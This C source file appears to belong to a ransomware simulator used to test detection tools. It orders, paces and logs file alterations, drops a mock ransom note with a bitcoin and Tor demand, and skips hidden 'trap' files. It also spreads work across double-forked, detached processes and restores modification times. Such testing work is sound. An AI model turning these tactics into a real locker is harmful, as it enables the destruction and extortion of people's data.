/* What stands around each alteration: order, pace, processes and threads, the note, and the log. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "pattern.h"

static const char note_text[] =
        "YOUR FILES HAVE BEEN ENCRYPTED (a rehearsal of hinomi's own tests; nothing is lost)\n\n"
        "All documents, databases and backups on this server are encrypted with a strong algorithm. To "
        "recover\n"
        "your files you must pay 0 bitcoin. Do not rename the encrypted files. Contact us with your personal "
        "ID\n"
        "through the Tor browser: http://example.onion/\n";

static uint64_t now_ns(void) {
        struct timespec now;
        clock_gettime(CLOCK_MONOTONIC, &now);
        return (uint64_t)now.tv_sec * 1000000000 + (uint64_t)now.tv_nsec;
}

/* One line: EVENT TIME_NS PID RESULT PATH, bytes that are not printable as %XX. */
static void job_log(const struct job *job, const char *event, const char *path, int result) {
        char line[4096 + 64];
        if (job->log < 0)
                return;
        int n = snprintf(line, 64, "%s %llu %d %d ", event, (unsigned long long)now_ns(), (int)getpid(),
                         result);
        for (; *path && n < (int)sizeof(line) - 8; path++)
                if ((uint8_t)*path > ' ' && (uint8_t)*path < 127 && *path != '%')
                        line[n++] = *path;
                else
                        n += snprintf(line + n, 4, "%%%02X", (uint8_t)*path);
        line[n++] = '\n';
        if (write(job->log, line, (size_t)n) != n)
                abort(); /* a log that lacks a line would make the count too good */
}

static void job_pace(const struct job *job) {
        uint64_t ticket = __atomic_fetch_add(&job->counters->n_started, 1, __ATOMIC_RELAXED);
        if (job->rate <= 0)
                return;
        uint64_t at = job->start_ns + (uint64_t)((double)ticket / job->rate * 1e9);
        struct timespec when = {.tv_sec = (time_t)(at / 1000000000), .tv_nsec = (long)(at % 1000000000)};
        while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &when, NULL) == EINTR)
                ;
}

int job_begin(const struct job *job, const struct target *target, struct victim *ret) {
        job_pace(job);
        *ret = (struct victim){
                .job = job, .key = cipher_key(job->seed, target->path), .size_bytes = target->size_bytes};
        ret->folder = scratch_folder(job->root, target->path, &ret->name);
        job_log(job, "begin", target->path, 0);
        return ret->folder < 0 ? ret->folder : 0;
}

static void leave_note(const struct victim *victim) {
        int fd = scratch_at(victim->folder, victim->job->note, O_WRONLY | O_CREAT | O_EXCL);
        if (fd >= 0) {
                write_all(fd, note_text, strlen(note_text), 0);
                close(fd);
        }
}

void job_end(const struct job *job, const struct target *target, struct victim *victim, int result) {
        struct counters *counters = job->counters;
        bool is_denied = result == -EPERM || result == -EACCES;
        __atomic_fetch_add(result == UNTOUCHED ? &counters->n_untouched
                           : result >= 0       ? &counters->n_altered
                           : is_denied         ? &counters->n_denied
                                               : &counters->n_failed,
                           1, __ATOMIC_RELAXED);
        if (job->keep_times && result >= 0 && result != UNTOUCHED) {
                struct timespec times[2] = {{.tv_nsec = UTIME_OMIT},
                                            {.tv_sec = (time_t)(target->mtime_ns / 1000000000),
                                             .tv_nsec = (long)(target->mtime_ns % 1000000000)}};
                utimensat(victim->folder, victim->name, times, AT_SYMLINK_NOFOLLOW);
        }
        job_log(job, "end", target->path, result);
        if (job->note && victim->folder >= 0 && result >= 0)
                leave_note(victim);
        if (victim->folder >= 0)
                close(victim->folder);
}

/* Processes and threads */

struct share { /* every n-th target from `first` on, by the threads of one process */
        const struct job *job;
        const struct pattern *pattern;
        size_t first, step, next;
};

static void alter_one(const struct share *share, const struct target *target) {
        struct victim victim;
        int r = job_begin(share->job, target, &victim);
        if (r == 0)
                r = share->pattern->alter(&victim);
        job_end(share->job, target, &victim, r > 0 && r != UNTOUCHED ? 0 : r);
}

/* A process of its own in a session of its own, whose parent has ended before it does anything. */
static int detach(const struct share *share, void (*work)(const struct share *, const struct target *),
                  const struct target *target) {
        pid_t pid = fork();
        if (pid == 0) {
                setsid();
                pid = fork();
                if (pid == 0)
                        work(share, target);
                _exit(pid < 0 ? 1 : 0);
        }
        int status;
        if (pid < 0 || waitpid(pid, &status, 0) < 0)
                return -errno;
        return status ? -EAGAIN : 0;
}

static void *share_run(void *userdata) {
        struct share *share = userdata;
        for (;;) {
                size_t i = share->first + share->step * __atomic_fetch_add(&share->next, 1, __ATOMIC_RELAXED);
                if (i >= share->job->targets.n)
                        return NULL;
                const struct target *target = &share->job->targets.rows[i];
                if (!share->job->fork_per_file)
                        alter_one(share, target);
                else if (detach(share, alter_one, target) < 0)
                        __atomic_fetch_add(&share->job->counters->n_failed, 1, __ATOMIC_RELAXED);
        }
}

static void share_work(const struct share *share, const struct target *none) {
        struct share own = *share;
        pthread_t threads[512];
        unsigned n = 0;
        (void)none;
        while (n + 1 < share->job->n_threads && n < 512 &&
               pthread_create(&threads[n], NULL, share_run, &own) == 0)
                n++;
        share_run(&own);
        while (n)
                pthread_join(threads[--n], NULL);
}

/* The pipe's other ends are in the workers: it ends when the last of them has ended, however it did. */
static int run_detached(const struct job *job, const struct pattern *pattern) {
        int ends[2], r = 0;
        char byte;
        if (pipe2(ends, O_CLOEXEC) < 0)
                return -errno;
        for (unsigned i = 0; i < job->n_processes && r == 0; i++) {
                struct share share = {job, pattern, i, job->n_processes, 0};
                if (job->n_processes > 1)
                        r = detach(&share, share_work, NULL);
                else
                        share_work(&share, NULL);
        }
        close(ends[1]);
        while (read(ends[0], &byte, 1) < 0 && errno == EINTR)
                ;
        close(ends[0]);
        return r;
}

/* Order */

static int compare_paths(const void *a, const void *b) {
        return strcmp(((const struct target *)a)->path, ((const struct target *)b)->path);
}

static int compare_sizes(const void *a, const void *b) {
        const struct target *x = a, *y = b;
        return x->size_bytes == y->size_bytes ? compare_paths(a, b) : x->size_bytes < y->size_bytes ? 1 : -1;
}

static int compare_times(const void *a, const void *b) {
        const struct target *x = a, *y = b;
        return x->mtime_ns == y->mtime_ns ? compare_paths(a, b) : x->mtime_ns < y->mtime_ns ? 1 : -1;
}

static int job_order(struct job *job) {
        struct targets *targets = &job->targets;
        if (!strcmp(job->order, "directory"))
                return 0;
        if (!strcmp(job->order, "random")) {
                qsort(targets->rows, targets->n, sizeof(*targets->rows), compare_paths);
                for (size_t i = targets->n; i > 1; i--) {
                        size_t k = cipher_random(job->seed + i) % i;
                        struct target other = targets->rows[k];
                        targets->rows[k] = targets->rows[i - 1];
                        targets->rows[i - 1] = other;
                }
                return 0;
        }
        int (*compare)(const void *, const void *) = !strcmp(job->order, "sorted")    ? compare_paths
                                                     : !strcmp(job->order, "largest") ? compare_sizes
                                                     : !strcmp(job->order, "newest")  ? compare_times
                                                                                      : NULL;
        if (!compare)
                return -EINVAL;
        qsort(targets->rows, targets->n, sizeof(*targets->rows), compare);
        return 0;
}

static bool ends_with(const char *path, const char *end) {
        size_t n = strlen(path), m = strlen(end);
        return m && n >= m && !strcmp(path + n - m, end);
}

/* What a locker leaves out: its own results and notes, and names with a dot where it suspects a trap. */
static void job_select(struct job *job) {
        size_t n = 0;
        for (size_t i = 0; i < job->targets.n; i++) {
                struct target *target = &job->targets.rows[i];
                bool is_hidden = target->path[0] == '.' || strstr(target->path, "/.");
                if (ends_with(target->path, job->extension) ||
                    (job->note && ends_with(target->path, job->note)) || (job->skip_hidden && is_hidden))
                        free(target->path);
                else
                        job->targets.rows[n++] = *target;
        }
        for (size_t i = job->n_files && job->n_files < n ? job->n_files : n; i < n; i++)
                free(job->targets.rows[i].path);
        job->targets.n = job->n_files && job->n_files < n ? job->n_files : n;
}

int job_run(const struct job *order, const struct pattern *pattern) {
        struct job job = *order;
        int r = scratch_list(job.root, job.with_links, &job.targets);
        if (r == 0)
                r = job_order(&job);
        if (r == 0) {
                job_select(&job);
                job.start_ns = now_ns();
                r = pattern->alter_all ? pattern->alter_all(&job) : run_detached(&job, pattern);
        }
        targets_free(&job.targets);
        return r;
}
